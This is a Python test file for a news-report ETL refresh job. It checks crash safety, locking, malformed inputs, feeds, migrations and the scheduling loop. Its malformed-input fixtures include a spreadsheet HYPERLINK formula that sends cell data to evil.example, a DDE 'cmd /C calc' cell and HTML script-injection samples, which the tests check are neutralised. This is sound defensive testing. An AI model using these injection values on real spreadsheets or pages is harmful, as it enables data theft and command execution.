"""The refresh as a scheduled job (issue 6): kill -9 at random points, two writers at once,
a malformed-input corpus, dashboard queries while refreshes publish, feeds over loopback,
schema migrations, and the --every loop."""
from __future__ import annotations

import hashlib
import http.server
import json
import multiprocessing
import os
import random
import shutil
import signal
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import duckdb
import pytest

from conftest import PROJECT, run_cli, write_report
from etl import __main__ as cli
from etl import load, refresh as refresh_mod
from etl.config import Source, load_config
from etl.reference import default_reference
from etl.refresh import refresh

# Content tables, without the columns that say when (ingested_at, removed_at's value).
CONTENT = {
    "reports": "report_id, source, url, title, published, path, source_key, reader, sha256, text, "
               "extractor_version, n_observations, removed_at is not null as removed",
    "observations": "*",
    "events": "*",
    "event_observations": "*",
    "places": "*",
    "place_aliases": "*",
}
TOWNS = ("Al-Mayadin", "Abu Kamal", "Hajin", "Hit", "Ramadi", "Fallujah", "Al-Qaim", "Anah")


def content(db: Path) -> dict[str, list]:
    """Every content table, sorted; opening the database is part of the check."""
    con = duckdb.connect(str(db), read_only=True)
    try:
        return {t: sorted(map(repr, con.execute(f"select {cols} from {t}").fetchall())) for t, cols in CONTENT.items()}
    finally:
        con.close()


def runs(db: Path) -> list[tuple]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute("select status, error from refresh_runs order by started_at, run_id").fetchall()
    finally:
        con.close()


def write_tiny(folder: Path, i: int, variant: str = "") -> None:
    town = TOWNS[i % len(TOWNS)]
    write_report(folder, f"r{i:05d}.md",
                 f"Islamic State fighters set up {2 + i % 5} checkpoints in {town} on Saturday, "
                 f"residents said. Report {i}{variant}.",
                 title=f"Report {i}", date=f"2015-{1 + i % 12:02d}-{1 + i % 28:02d}")


# --------------------------------------------------------------------------------------------
# kill -9 at random points
# --------------------------------------------------------------------------------------------
def _refresh_in_child(corpus: str, db: str) -> None:
    refresh([corpus], Path(db), reference=default_reference(), progress=False)


def test_kill_9_at_random_points_leaves_the_old_or_the_new_database(tmp_path):
    """2,000 reports stored; the next refresh adds 300, changes 100 and loses 50 (tombstones).
    It is killed with SIGKILL after a random delay, 20 times: the database always opens and
    holds exactly the old or the new content, and the next refresh completes the work."""
    ref = default_reference()
    corpus = tmp_path / "reports"
    for i in range(2000):
        write_tiny(corpus, i)
    old_db = tmp_path / "old.duckdb"
    refresh([corpus], old_db, reference=ref, progress=False)
    for i in range(2000, 2300):
        write_tiny(corpus, i)
    for i in range(0, 1000, 10):
        write_tiny(corpus, i, " (corrected)")
    for i in range(5, 1000, 20):
        (corpus / f"r{i:05d}.md").unlink()

    new_db = tmp_path / "new.duckdb"
    shutil.copyfile(old_db, new_db)
    t0 = time.perf_counter()
    summary = refresh([corpus], new_db, reference=ref, progress=False)
    full_run = time.perf_counter() - t0
    assert (summary.reports_new, summary.reports_replaced, summary.reports_removed) == (300, 100, 50)
    old, new = content(old_db), content(new_db)
    assert old != new
    n_old_runs = len(runs(old_db))

    rng = random.Random(20150119)
    outcomes = []
    fork = multiprocessing.get_context("fork")
    for trial in range(20):
        db = tmp_path / f"trial{trial}.duckdb"
        shutil.copyfile(old_db, db)
        child = fork.Process(target=_refresh_in_child, args=(str(corpus), str(db)))
        child.start()
        time.sleep(rng.uniform(0, full_run * 1.1))
        os.kill(child.pid, signal.SIGKILL)
        child.join(10)
        assert not child.is_alive()

        found = content(db)
        assert found in (old, new), f"trial {trial}: the database is neither the old nor the new state"
        outcomes.append("new" if found == new else "old")
        assert len(runs(db)) in (n_old_runs, n_old_runs + 1)

        finish = refresh([corpus], db, reference=ref, progress=False)  # the lock died with the child
        assert content(db) == new, f"trial {trial}: the next refresh did not complete the work"
        assert finish.reports_new + finish.reports_replaced in (0, 400)
        assert not list(tmp_path.glob(f"trial{trial}.duckdb.tmp-*")), "leftover temporary file"
        assert not (tmp_path / f"trial{trial}.duckdb.wal").exists()
        db.unlink()
    assert "old" in outcomes, outcomes  # some kills landed before the publish


# --------------------------------------------------------------------------------------------
# one writer at a time
# --------------------------------------------------------------------------------------------
def test_two_refreshes_started_together_one_runs_the_other_exits_75(tmp_path):
    corpus = tmp_path / "reports"
    for i in range(40):
        write_tiny(corpus, i)
    db = tmp_path / "p.duckdb"
    command = [sys.executable, "-m", "etl", "refresh", "--reports", str(corpus), "--db", str(db), "--quiet"]
    procs = [subprocess.Popen(command, cwd=PROJECT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    results = [(p.wait(120), *p.communicate()) for p in procs]
    assert sorted(code for code, _, _ in results) == [0, 75], results
    loser = next(r for r in results if r[0] == 75)
    assert loser[2].startswith("error: another refresh is writing"), loser[2]
    assert loser[1] == ""
    alone = tmp_path / "alone.duckdb"
    refresh([corpus], alone, progress=False)
    assert content(db) == content(alone)
    assert [status for status, _ in runs(db)] == ["ok"]


# --------------------------------------------------------------------------------------------
# malformed input
# --------------------------------------------------------------------------------------------
GOOD_TEXT = "Islamic State fighters set up three checkpoints in Hajin on Saturday, residents said."


def make_malformed_corpus(folder: Path) -> dict[tuple[str, str], str]:
    """Every kind of bad input, beside good reports; returns (file, record) -> expected reason."""
    folder.mkdir(parents=True)
    for i, town in enumerate(("Hajin", "Abu Kamal", "Al-Mayadin")):
        write_report(folder, f"good{i}.md", GOOD_TEXT.replace("Hajin", town), title=f"Good {i}", date="2015-03-09")
    (folder / "empty.txt").write_bytes(b"")
    (folder / "blank.md").write_text(" \n\t\n")
    (folder / "image.md").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(200))
    (folder / "cp1252.txt").write_bytes(f"9 March 2015\n\n{GOOD_TEXT} Caf\u00e9 \u2013 sources.".encode("cp1252"))
    (folder / "declared.html").write_bytes(
        ('<html><head><meta charset="windows-1252"><title>Declared</title>'
         '<meta name="date" content="2015-03-09"></head><body><article><p>'
         + GOOD_TEXT.replace("Hajin", "Al-Qaim") + " Caf\u00e9 \u2013 sources.</p></article></body></html>"
         ).encode("cp1252"))
    (folder / "huge.md").write_text("---\ndate: 2015-03-09\n---\n" + (GOOD_TEXT + "\n") * 1500)
    (folder / "undated.txt").write_text("Fighters were seen near the river. Nothing else is known.\n")
    (folder / "scripted.html").write_text(
        '<html><head><title>Scripted</title><meta name="date" content="2015-03-10">'
        '<script>document.write("INJECTED-HEAD")</script></head><body><article>'
        f'<p>{GOOD_TEXT.replace("Hajin", "Hit")}</p><script>alert("INJECTED-BODY")</script>'
        '<p onclick="alert(1)">Residents counted the posts again on Sunday.</p></article></body></html>')
    (folder / "only-script.html").write_text(
        '<html><head><meta name="date" content="2015-03-10"></head><body><script>alert("x")</script></body></html>')
    (folder / "formulas.csv").write_text(
        "id,title,date,text\n"
        f'f1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2015-03-09,"=1+2 {GOOD_TEXT}"\n'
        f'f2,+cmd|\' /C calc\'!A0,2015-03-09,"@SUM(A1:A9) {GOOD_TEXT.replace("Hajin", "Anah")}"\n'
        f'f3,-2+3,2015-03-09,"-1 {GOOD_TEXT.replace("Hajin", "Ramadi")}"\n'
        'f4,no date,,"Fighters were seen near the river."\n')
    (folder / "fields.json").write_text(json.dumps({"reports": [
        {"id": "ok", "title": "JSON ok", "date": "2015-03-09", "text": GOOD_TEXT.replace("Hajin", "Rawa")},
        {"id": "no-text", "title": "Only a title", "date": "2015-03-09"},
        {"id": "no-date", "title": "Undated", "text": "Fighters were seen near the river."},
    ]}))
    (folder / "broken.json").write_text('{"reports": [{"id": 1, "text": ')
    (folder / "lines.jsonl").write_text(
        json.dumps({"id": "l1", "date": "2015-03-09", "text": GOOD_TEXT.replace("Hajin", "Fallujah")})
        + "\n{not json\n")
    return {
        ("empty.txt", ""): "empty", ("blank.md", ""): "empty", ("image.md", ""): "binary",
        ("cp1252.txt", ""): "invalid encoding", ("huge.md", ""): "too large",
        ("undated.txt", ""): "no report date", ("only-script.html", ""): "no text",
        ("formulas.csv", "f4"): "no report date", ("fields.json", "no-text"): "no text",
        ("fields.json", "no-date"): "no report date", ("broken.json", ""): "unreadable",
        ("lines.jsonl", "2"): "unreadable",
    }


def test_malformed_inputs_are_rejected_with_reasons_and_good_reports_load(tmp_path):
    folder = tmp_path / "inbox"
    expected = make_malformed_corpus(folder)
    db = tmp_path / "p.duckdb"
    config = tmp_path / "etl.toml"
    config.write_text('db = "p.duckdb"\nmax_bytes = 50_000\n\n[[sources]]\npath = "inbox"\n'
                      '\n[[sources]]\npath = "gone-away"\n')
    r = run_cli("refresh", "--config", str(config), "--quiet")
    assert r.returncode == 0, r.stderr
    expected[("gone-away", "")] = "source unreachable"
    assert f"{len(expected)} rejected" in r.stdout

    con = duckdb.connect(str(db), read_only=True)
    rejected = {(Path(p).name, rec): reason for p, rec, reason in
                con.execute("select path, record, reason from rejected_inputs").fetchall()}
    titles = {t for (t,) in con.execute("select title from reports").fetchall()}
    texts = dict(con.execute("select source_key, text from reports").fetchall())
    con.close()
    assert rejected == expected
    # good reports load: the .md, the declared windows-1252 page, the scripted page (scripts
    # dropped), every dated CSV row (formulas stored as text, never evaluated), JSON and JSONL.
    assert {"Good 0", "Good 1", "Good 2", "Declared", "Scripted", "JSON ok", "-2+3",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0"} <= titles
    assert len(texts) == 10
    assert texts[f"{folder / 'formulas.csv'}#f1"].startswith("=1+2 Islamic State")
    assert texts[f"{folder / 'formulas.csv'}#f2"].startswith("@SUM(A1:A9) ")
    scripted = texts[str(folder / "scripted.html")]
    assert "Hit" in scripted and "INJECTED" not in scripted and "alert" not in scripted
    assert "Café – sources" in texts[str(folder / "declared.html")]

    # one JSON line per rejected input (with its path and reason) and one for the run
    events = [json.loads(line) for line in r.stderr.splitlines() if line.startswith("{")]
    logged = {(Path(e["path"]).name, e["record"]): e["reason"] for e in events if e["event"] == "rejected"}
    assert logged == expected
    run_events = [e for e in events if e["event"] == "refresh"]
    assert len(run_events) == 1 and run_events[0]["status"] == "ok"
    assert run_events[0]["reports_failed"] == len(expected) and run_events[0]["reports_new"] == 10

    strict = run_cli("refresh", "--config", str(config), "--quiet", "--strict")
    assert strict.returncode == 1
    assert f"error: --strict: {len(expected)} inputs rejected" in strict.stderr


# --------------------------------------------------------------------------------------------
# the dashboard's queries while refreshes publish
# --------------------------------------------------------------------------------------------
READER = textwrap.dedent("""
    import json, sys, time, traceback
    from pathlib import Path
    from etl import queries
    from etl.queries import Filters

    db, stop, ready = sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3])
    everything = Filters(precisions=None)
    calls = [
        lambda: queries.summarise_database(db),
        lambda: queries.list_actors(db),
        lambda: queries.list_towns(db, everything),
        lambda: queries.count_left_out_by_precision(db, everything),
        lambda: queries.series_by_period(db, everything, "week"),
        lambda: queries.list_evidence(db, everything),
        lambda: queries.what_changed(db, everything),
        lambda: queries.list_quiet_towns(db, everything),
        lambda: queries.get_last_refresh(db),
        lambda: queries.list_refresh_runs(db),
        lambda: queries.list_rejected_inputs(db),
        lambda: queries.list_unresolved_places(db),
    ]
    n, errors = 0, []
    while not stop.exists():
        for call in calls:
            try:
                call()
            except Exception:
                errors.append(traceback.format_exc(limit=3))
            n += 1
        ready.touch()
    print(json.dumps({"calls": n, "errors": errors}))
""")


def test_dashboard_queries_never_fail_while_ten_refreshes_publish(tmp_path, monkeypatch):
    corpus = tmp_path / "reports"
    for i in range(30):
        write_tiny(corpus, i)
    db = tmp_path / "p.duckdb"
    ref = default_reference()
    refresh([corpus], db, reference=ref, progress=False)
    stop, ready = tmp_path / "stop", tmp_path / "ready"
    reader = subprocess.Popen([sys.executable, "-c", READER, str(db), str(stop), str(ready)], cwd=PROJECT,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not ready.exists():
            assert reader.poll() is None, reader.communicate()
            assert time.monotonic() < deadline, "the reader never got going"
            time.sleep(0.05)
        real_insert = load.insert_batch
        for n in range(10):
            write_tiny(corpus, 100 + n)
            if n == 4:  # one run fails: its 'failed' row is written into the live database
                monkeypatch.setattr(load, "insert_batch", lambda *a: (_ for _ in ()).throw(RuntimeError("boom")))
                with pytest.raises(RuntimeError):
                    refresh([corpus], db, reference=ref, progress=False)
                monkeypatch.setattr(load, "insert_batch", real_insert)
            else:
                refresh([corpus], db, reference=ref, progress=False)
            time.sleep(0.05)
    finally:
        stop.touch()
        out, err = reader.communicate(timeout=60)
    assert reader.returncode == 0, err
    result = json.loads(out)
    assert result["errors"] == [], result["errors"][0]
    assert result["calls"] >= 12
    assert [s for s, _ in runs(db)].count("failed") == 1 and len(runs(db)) == 11


# --------------------------------------------------------------------------------------------
# feeds over loopback
# --------------------------------------------------------------------------------------------
def rss(items: list[tuple[str, str, str, str]]) -> bytes:
    entries = "".join(
        f"<item><title>{title}</title><link>http://news.example/{guid}</link><guid>{guid}</guid>"
        f"<pubDate>{date}</pubDate><description><![CDATA[<p>{body}</p><script>alert('x')</script>]]>"
        "</description></item>" for guid, title, date, body in items)
    return (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Deir Watch</title>'
            f"<link>http://news.example/</link>{entries}</channel></rss>").encode()


class FeedServer(http.server.ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), FeedHandler)
        self.feed = b""
        self.requests: list[tuple[str, str | None]] = []

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}{path}"


class FeedHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        server: FeedServer = self.server  # type: ignore[assignment]
        server.requests.append((self.path, self.headers.get("If-None-Match")))
        if self.path == "/broken":
            self.send_error(500, "Internal Server Error")
            return
        if self.path == "/slow":
            time.sleep(3)
        etag = '"' + hashlib.sha1(server.feed).hexdigest() + '"'
        if self.headers.get("If-None-Match") == etag:
            self.send_response(304)
            self.send_header("ETag", etag)
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml; charset=utf-8")
        self.send_header("ETag", etag)
        self.send_header("Last-Modified", "Mon, 09 Mar 2015 10:00:00 GMT")
        self.send_header("Content-Length", str(len(server.feed)))
        self.end_headers()
        self.wfile.write(server.feed)

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def feed_server(monkeypatch):
    for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("no_proxy", "127.0.0.1,localhost")
    server = FeedServer()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


ITEM_1 = ("a1", "Checkpoints in Hajin", "Mon, 09 Mar 2015 10:00:00 GMT",
          "IS fighters set up three checkpoints in Hajin on Saturday, residents said.")
ITEM_2 = ("a2", "Patrols in Hit", "Tue, 10 Mar 2015 10:00:00 GMT",
          "Daesh patrols increased in Hit this week, residents said.")
ITEM_3 = ("a3", "Strike near Abu Kamal", "Wed, 11 Mar 2015 10:00:00 GMT",
          "Coalition warplanes struck an IS checkpoint near Abu Kamal on Wednesday.")


def test_feed_on_loopback_new_items_then_304_then_one_more(feed_server, tmp_path):
    feed_server.feed = rss([ITEM_1, ITEM_2])
    db = tmp_path / "p.duckdb"
    sources = [Source("feed", feed_server.url("/feed.xml"))]
    first = refresh(sources, db, progress=False, feed_timeout=5)
    assert (first.reports_new, first.reports_failed) == (2, 0)
    con = duckdb.connect(str(db), read_only=True)
    rows = con.execute("select title, source, url, published::varchar, text, reader from reports order by title").fetchall()
    state = con.execute("select feed, etag, last_modified, last_status from feed_state").fetchall()
    con.close()
    assert rows[0] == ("Checkpoints in Hajin", "Deir Watch", "http://news.example/a1", "2015-03-09",
                       ITEM_1[3], "feed")
    etag = '"' + hashlib.sha1(feed_server.feed).hexdigest() + '"'
    assert state == [(feed_server.url("/feed.xml"), etag, "Mon, 09 Mar 2015 10:00:00 GMT", 200)]

    unchanged = refresh(sources, db, progress=False, feed_timeout=5)
    assert feed_server.requests[-1] == ("/feed.xml", etag)  # a conditional request
    assert (unchanged.reports_seen, unchanged.reports_new, unchanged.feeds_not_modified) == (0, 0, 1)

    feed_server.feed = rss([ITEM_3, ITEM_1, ITEM_2])
    more = refresh(sources, db, progress=False, feed_timeout=5)
    assert (more.reports_seen, more.reports_new, more.reports_unchanged) == (3, 1, 2)
    feed_server.feed = rss([ITEM_3])  # older items roll off a feed: they are not tombstoned
    rolled = refresh(sources, db, progress=False, feed_timeout=5)
    assert (rolled.reports_removed, rolled.reports_unchanged) == (0, 1)
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("select count(*) from reports where removed_at is null").fetchone()[0] == 3
    con.close()


def test_feed_that_fails_or_times_out_is_recorded_and_skipped(feed_server, tmp_path):
    feed_server.feed = rss([ITEM_1])
    folder = tmp_path / "reports"
    write_tiny(folder, 1)
    db = tmp_path / "p.duckdb"
    r = run_cli("refresh", "--reports", str(folder), "--feeds", feed_server.url("/broken"),
                feed_server.url("/slow"), feed_server.url("/feed.xml"), "--feed-timeout", "0.5",
                "--db", str(db), "--quiet", env={"no_proxy": "127.0.0.1,localhost"})
    assert r.returncode == 0, r.stderr
    assert "2 new" in r.stdout and "2 rejected" in r.stdout
    con = duckdb.connect(str(db), read_only=True)
    rejected = dict((p, (reason, detail)) for p, reason, detail in
                    con.execute("select path, reason, detail from rejected_inputs").fetchall())
    statuses = dict(con.execute("select feed, last_status from feed_state").fetchall())
    con.close()
    assert rejected[feed_server.url("/broken")] == ("source unreachable", "HTTP 500 Internal Server Error")
    reason, detail = rejected[feed_server.url("/slow")]
    assert reason == "source unreachable" and detail.startswith("timed out after 0.5s")
    assert statuses == {feed_server.url("/broken"): 500, feed_server.url("/slow"): None,
                        feed_server.url("/feed.xml"): 200}
    events = [json.loads(line) for line in r.stderr.splitlines() if line.startswith("{")]
    assert {e["path"] for e in events if e["event"] == "rejected"} == {feed_server.url("/broken"), feed_server.url("/slow")}


def test_feed_file_and_unreachable_host(tmp_path):
    feed = tmp_path / "saved.xml"
    feed.write_bytes(rss([ITEM_1, ("a4", "No date", "", "Fighters were seen near the river.")]))
    db = tmp_path / "p.duckdb"
    # port 9 on loopback: nothing listens (connection refused at once)
    summary = refresh([Source("feed", str(feed)), Source("feed", "http://127.0.0.1:9/feed")], db,
                      progress=False, feed_timeout=2)
    assert summary.reports_new == 1
    assert sorted((Path(r.path).name, r.record, r.reason) for r in summary.rejected) == [
        ("feed", "", "source unreachable"), ("saved.xml", "a4", "no report date")]


# --------------------------------------------------------------------------------------------
# schema migrations
# --------------------------------------------------------------------------------------------
def make_version_1_database(db: Path) -> None:
    """A database as the code of schema version 1 wrote it, with one report."""
    version, name, sql = load.load_migrations()[0]
    assert (version, name) == (1, "0001_initial.sql")
    con = duckdb.connect(str(db))
    con.execute(sql)
    con.execute("insert into schema_version values (1, now())")
    con.execute("""insert into reports values ('old-report', 'Old Wire', '', 'Old report', '2014-06-25',
        '/elsewhere/old.md', '/elsewhere/old.md', 'text', 'x', ?, now(), 'presence-rules-0', 0)""",
                [GOOD_TEXT])
    con.execute("""insert into refresh_runs values ('old-run', now(), now(), 'ok', 1, 1, 0, 0, 0, 0,
        'presence-rules-0', null)""")
    con.close()


def test_old_version_database_is_migrated(tmp_path):
    db = tmp_path / "p.duckdb"
    make_version_1_database(db)
    folder = tmp_path / "reports"
    write_tiny(folder, 1)
    r = run_cli("refresh", "--reports", str(folder), "--db", str(db), "--quiet")
    assert r.returncode == 0, r.stderr
    con = duckdb.connect(str(db), read_only=True)
    versions = [v for (v,) in con.execute("select version from schema_version order by version").fetchall()]
    old = con.execute("select extractor_version, n_observations, removed_at from reports "
                      "where report_id = 'old-report'").fetchone()
    old_run = con.execute("select reports_removed, duration_seconds from refresh_runs where run_id = 'old-run'").fetchone()
    con.close()
    assert versions == list(range(1, load.SCHEMA_VERSION + 1))
    # kept, and extracted again from its stored text by the current extractor
    assert old == (refresh_mod.EXTRACTOR_VERSION, 1, None)
    assert old_run == (0, None)


def test_newer_version_database_is_refused_with_what_to_do(tmp_path):
    folder = tmp_path / "reports"
    write_tiny(folder, 1)
    db = tmp_path / "p.duckdb"
    refresh([folder], db, progress=False)
    con = duckdb.connect(str(db))
    con.execute("insert into schema_version values (?, now())", [load.SCHEMA_VERSION + 1])
    con.close()
    before = content(db), runs(db)
    write_tiny(folder, 2)
    r = run_cli("refresh", "--reports", str(folder), "--db", str(db), "--quiet")
    assert r.returncode == 1
    assert r.stderr.splitlines()[-1] == (
        f"error: the database has schema version {load.SCHEMA_VERSION + 1}, newer than this code "
        f"(schema version {load.SCHEMA_VERSION}): update presence (git pull, then bash scripts/setup.sh) "
        "and run again, or refresh into a new --db path")
    assert (content(db), runs(db)) == before  # refused: not even a 'failed' row written into it


# --------------------------------------------------------------------------------------------
# --every
# --------------------------------------------------------------------------------------------
def test_every_survives_a_failed_run_and_keeps_going(tmp_path, monkeypatch, capsys):
    folder = tmp_path / "reports"
    write_tiny(folder, 1)
    db = tmp_path / "p.duckdb"
    refresh([folder], db, progress=False)
    write_tiny(folder, 2)
    real_insert, calls = load.insert_batch, []

    def fail_first_run(*args):
        calls.append(1)
        if len(calls) == 1:
            raise OSError("disk on fire")
        return real_insert(*args)

    monkeypatch.setattr(load, "insert_batch", fail_first_run)
    code = cli.main(["refresh", "--reports", str(folder), "--db", str(db), "--every", "0.2s",
                     "--max-runs", "2", "--quiet"])
    out, err = capsys.readouterr()
    assert code == 0
    assert "error: refresh failed, nothing published: OSError: disk on fire" in err
    assert len(out.splitlines()) == 1 and out.startswith("refresh ok: 2 reports seen, 1 new, 1 unchanged")
    statuses = runs(db)
    assert [s for s, _ in statuses] == ["ok", "failed", "ok"]
    assert statuses[1][1] == "OSError: disk on fire"
    events = [json.loads(line) for line in err.splitlines() if line.startswith("{")]
    assert [e["status"] for e in events if e["event"] == "refresh"] == ["failed", "ok"]


def test_every_stops_cleanly_on_sigterm(tmp_path):
    folder = tmp_path / "reports"
    write_tiny(folder, 1)
    db = tmp_path / "p.duckdb"
    proc = subprocess.Popen([sys.executable, "-m", "etl", "refresh", "--reports", str(folder), "--db", str(db),
                             "--every", "1h"], cwd=PROJECT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        lines = []
        while not lines or not lines[-1].startswith("next refresh at "):  # the loop now waits an hour
            lines.append(proc.stderr.readline())
            assert lines[-1], "".join(lines)
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=20)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0, err
    assert out.startswith("refresh ok: 1 reports seen, 1 new")
    assert err == "refresh loop stopped by SIGTERM\n"
    assert [s for s, _ in runs(db)] == ["ok"]


def test_sigterm_during_a_run_stops_it_before_it_publishes(tmp_path):
    folder = tmp_path / "reports"
    write_tiny(folder, 1)
    db = tmp_path / "p.duckdb"
    refresh([folder], db, progress=False)
    before = content(db)
    for i in range(2, 1500):
        write_tiny(folder, i)
    proc = subprocess.Popen([sys.executable, "-m", "etl", "refresh", "--reports", str(folder), "--db", str(db),
                             "--quiet"], cwd=PROJECT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not list(tmp_path.glob("p.duckdb.tmp-*")):  # the run is working on its copy
            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
            time.sleep(0.01)
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 143, err
    assert out == ""
    assert err.splitlines()[-1] == ("error: refresh stopped by SIGTERM; nothing published, "
                                    "the last good database stays")
    assert content(db) == before
    assert runs(db) == [("ok", None), ("failed", "stopped by SIGTERM before publishing")]
    assert not list(tmp_path.glob("p.duckdb.tmp-*"))


def test_every_rejects_a_bad_interval(tmp_path):
    r = run_cli("refresh", "--every", "soon", "--db", str(tmp_path / "x.duckdb"))
    assert r.returncode == 2
    assert "--every wants an interval like 1h, 30m, 90s or 1h30m; got 'soon'" in r.stderr
    assert [cli.parse_interval(s) for s in ("1h", "30m", "90s", "1h30m", "0.5s", "2d", "45")] == [
        3600, 1800, 90, 5400, 0.5, 172800, 45]


# --------------------------------------------------------------------------------------------
# the config file
# --------------------------------------------------------------------------------------------
def test_example_config_names_each_kind_of_source():
    config = load_config(PROJECT / "etl.example.toml")
    assert [(s.kind, s.location) for s in config.sources] == [
        ("path", str(PROJECT / "data" / "reports")), ("feed", "https://example.org/news/feed.xml"),
        ("path", str(PROJECT / "exports" / "articles.csv"))]
    assert config.sources[2].csv_columns == {"text": "body", "title": "headline", "published": "date"}
    assert config.db == PROJECT / "data" / "presence.duckdb"
    assert config.max_bytes == 20 * 1024 * 1024


def test_config_problems_are_all_listed_and_exit_2(tmp_path):
    config = tmp_path / "etl.toml"
    config.write_text('colour = "blue"\nmax_bytes = -1\n\n[[sources]]\npath = "a"\nfeed = "b"\n\n'
                      '[[sources]]\nfeed = "https://x.example/rss"\ncsv_columns = "fakes"\n\n'
                      '[[sources]]\npath = "c.csv"\ncsv_columns = { txt = "body" }\n')
    r = run_cli("refresh", "--config", str(config))
    assert r.returncode == 2
    assert r.stderr.splitlines() == [
        f"error: {config}: colour: unknown setting (known: db, feed_timeout_seconds, max_bytes, prune, sources, strict)",
        f"{config}: max_bytes: a positive whole number of bytes",
        f"{config}: sources #1: give exactly one of path = ... or feed = ...",
        f"{config}: sources #2: csv_columns and csv_date_format are for path sources",
        f"{config}: sources #3: csv_columns: unknown report field 'txt' (fields: text, title, published, source, url, id)",
    ]


# --------------------------------------------------------------------------------------------
# small refreshes write in place: one DuckDB transaction, the same guarantees
# --------------------------------------------------------------------------------------------
def _inode(path: Path) -> int:
    return path.stat().st_ino


def test_a_small_refresh_writes_in_place_a_large_one_or_a_busy_file_uses_a_copy(tmp_path, monkeypatch):
    corpus = tmp_path / "reports"
    for i in range(20):
        write_tiny(corpus, i)
    db = tmp_path / "p.duckdb"
    ref = default_reference()
    refresh([corpus], db, reference=ref, progress=False)
    monkeypatch.setattr(load, "IN_PLACE_QUIET_SECONDS", 0)
    inode = _inode(db)
    write_tiny(corpus, 20)
    refresh([corpus], db, reference=ref, progress=False)
    assert _inode(db) == inode  # written in place
    monkeypatch.setattr(refresh_mod, "IN_PLACE_MAX_REPORTS", 2)
    for i in range(21, 24):
        write_tiny(corpus, i)
    refresh([corpus], db, reference=ref, progress=False)
    assert _inode(db) != inode  # three new reports: a copy, published
    inode = _inode(db)
    monkeypatch.setattr(refresh_mod, "IN_PLACE_MAX_REPORTS", 1000)
    write_tiny(corpus, 24)
    reader = duckdb.connect(str(db), read_only=True)  # a dashboard reading: do not lock it out
    try:
        refresh([corpus], db, reference=ref, progress=False)
    finally:
        reader.close()
    assert _inode(db) != inode
    assert len(content(db)["reports"]) == 25


def test_in_place_the_quiet_interval_keeps_readers_from_being_locked_out_twice(tmp_path, monkeypatch):
    monkeypatch.setattr(load, "IN_PLACE_QUIET_SECONDS", 60)  # the next run comes well within it
    corpus = tmp_path / "reports"
    for i in range(5):
        write_tiny(corpus, i)
    db = tmp_path / "p.duckdb"
    refresh([corpus], db, progress=False)
    write_tiny(corpus, 5)
    inode = _inode(db)
    refresh([corpus], db, progress=False)
    assert _inode(db) == inode  # in place
    write_tiny(corpus, 6)
    refresh([corpus], db, progress=False)  # right after an in-place write: a copy
    assert _inode(db) != inode


def _row_groups(db: Path, table: str) -> int:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(f"select count(distinct row_group_id) from pragma_storage_info('{table}')").fetchone()[0]
    finally:
        con.close()


def test_in_place_runs_leave_duckdbs_vacuum_until_row_groups_pile_up(tmp_path, monkeypatch):
    """Each in-place run appends a small row group to the tables it writes; DuckDB's vacuum,
    which merges them (and reclaims deleted rows) but can cost a second at scale, runs only
    once a table holds VACUUM_SLACK_ROW_GROUPS more than its rows need."""
    monkeypatch.setattr(load, "IN_PLACE_QUIET_SECONDS", 0)
    ref = default_reference()

    def row_groups_after_runs(slack: int) -> list[int]:
        monkeypatch.setattr(load, "VACUUM_SLACK_ROW_GROUPS", slack)
        corpus, db = tmp_path / f"reports-{slack}", tmp_path / f"p-{slack}.duckdb"
        write_tiny(corpus, 0)
        refresh([corpus], db, reference=ref, progress=False)
        inode, groups = _inode(db), []
        for i in range(1, 8):
            write_tiny(corpus, 0, variant=f" v{i}")  # replaced: a delete as well as an append
            write_tiny(corpus, i)
            refresh([corpus], db, reference=ref, progress=False)
            groups.append(_row_groups(db, "reports"))
        assert _inode(db) == inode  # every run wrote in place
        assert len(content(db)["reports"]) == 8
        return groups

    deferred = row_groups_after_runs(100)
    assert deferred == sorted(deferred) and deferred[-1] >= 6  # one more row group a run, none merged
    bounded = row_groups_after_runs(3)
    assert max(bounded) <= 1 + 3 + 1  # the rows need one; merged once past the slack
    assert bounded[-1] < deferred[-1]


def _refresh_killed_in_place(corpus: str, db: str, where: str) -> None:
    """A refresh that kills itself at `where` while writing in place."""
    real_execute = None

    def kill_at(point: str) -> None:
        if point == where:
            os.kill(os.getpid(), signal.SIGKILL)

    session = load.Session
    real_finish = session.finish

    def finish(self):
        assert self.mode == "live"
        kill_at("before commit")
        self.con.execute("commit")
        self.in_transaction = False
        kill_at("after commit")
        self.con.execute("checkpoint")
        kill_at("after checkpoint")
        self._detach()
        self.close()

    session.finish = finish
    try:
        refresh([corpus], Path(db), progress=False)
    finally:
        session.finish = real_finish
    del real_execute


@pytest.mark.parametrize("where", ["before commit", "after commit", "after checkpoint"])
